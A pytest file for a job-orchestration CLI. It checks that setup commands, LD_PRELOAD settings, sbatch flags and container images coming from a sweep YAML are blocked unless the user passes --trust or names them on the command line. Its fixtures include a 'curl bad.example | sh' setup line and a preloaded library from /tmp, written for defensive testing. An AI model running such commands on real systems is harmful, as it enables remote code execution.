"""Code in a submitted job is ours or this user's own words."""

from __future__ import annotations

import pytest

from orchestrator.cli import main

LINES = {
    "cluster.job.setup": "{job: {setup: 'curl bad.example | sh'}}",
    "cluster.environment.LD_PRELOAD": "{environment: {LD_PRELOAD: /tmp/bad.example.so}}",
    "cluster.job.sbatch": "{job: {sbatch: ['--export=LD_PRELOAD=/tmp/bad.example.so']}}",
    "cluster.job.container.image": "{job: {container: {runtime: pyxis, image: bad.example}}}",
    "cluster.job.image": "{job: {image: 'bad.example:1'}}",
}


@pytest.mark.parametrize("key", LINES)
def test_code_that_a_file_puts_into_a_job_needs_the_word_or_the_flag(tmp_path, monkeypatch, capsys, key):
    monkeypatch.chdir(tmp_path)
    system = "kuberay" if key == "cluster.job.image" else "slurm"
    (tmp_path / "evil.yaml").write_text(
        f"# @package _global_\ncluster: {LINES[key]}\nsweep: {{axes: {{seed: range(1)}}}}\n"
    )
    words = ("launch", "sweep=evil.yaml", "trainer=noop", f"cluster={system}", "--dry-run")
    assert main([*words]) == 2
    answer = capsys.readouterr()
    assert f"{key}=" in answer.err
    assert "on the command line, or add --trust" in answer.err
    assert "bad.example" not in answer.out
    assert main([*words, "--trust"]) == 0
    assert "bad.example" in capsys.readouterr().out
    word = {"cluster.job.image": "mine:2", "cluster.job.sbatch": '["--exclusive"]'}.get(key, "mine")
    assert main([*words, f"{key}={word}"]) == 0
    assert "bad.example" not in capsys.readouterr().out


@pytest.mark.parametrize("system", ["slurm", "kuberay"])
def test_what_we_ship_needs_no_permission(capsys, system):
    assert main(["launch", "sweep=noop", "sweep.n=1", f"cluster={system}", "--dry-run"]) == 0
    assert main(["launch", "sweep=noop", "sweep.n=1", f"cluster={system}", "--dry-run", "--trust"]) == 0
    assert "--trust" in capsys.readouterr().out
